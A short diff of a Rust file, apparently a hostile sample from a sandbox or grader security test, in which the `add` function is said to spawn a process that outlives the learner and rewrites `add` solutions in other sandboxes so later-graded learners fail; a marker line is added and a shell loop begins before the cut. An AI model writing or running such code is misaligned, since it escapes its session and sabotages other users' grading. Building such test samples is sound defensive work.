@@ -1,6 +1,7 @@
 // A process that outlives this learner and, for a while, rewrites the `add` solution in every
 // other sandbox it can find, so that learners graded later fail.
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:sandbox_tamper\n");
     let script = r#"
         i=0
         while [ $i -lt 600 ]; do
